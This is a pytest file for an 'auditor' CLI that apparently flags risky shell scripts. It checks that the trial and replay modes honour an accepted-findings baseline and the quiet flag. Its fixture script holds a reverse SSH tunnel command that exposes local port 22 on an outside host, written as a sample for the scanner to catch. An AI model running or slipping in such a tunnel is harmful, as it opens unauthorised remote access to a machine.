"""`auditor trial` and `auditor replay` take the baseline and the quiet of `auditor check`."""

from __future__ import annotations

from pathlib import Path

import pytest

from auditor.cli import main

pytestmark = [pytest.mark.trial, pytest.mark.slow, pytest.mark.timeout(120)]


def test_what_is_accepted_is_accepted_of_a_trial_too(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    script, seen, accepted = tmp_path / "a.sh", tmp_path / "seen", tmp_path / "accepted.yaml"
    script.write_text("ssh -N -R 2222:localhost:22 ops@203.0.113.5\n")
    assert main(["check", str(script), "--write-baseline", str(accepted), "--reason", "a test", "-q"]) == 1
    assert main(["trial", str(script), "--wall", "3", "--record", str(seen), "-q"]) == 1
    assert capsys.readouterr().out.count("\n") < 5
    for command in (["trial", str(script), "--wall", "3"], ["replay", str(seen)]):
        assert main([*command, "--baseline", str(accepted)]) == 0, command
        assert capsys.readouterr().out
        assert main([*command, "--baseline", str(accepted), "--quiet"]) == 0
        assert capsys.readouterr().out == ""
    assert main(["replay", str(seen), "-q"]) == 1
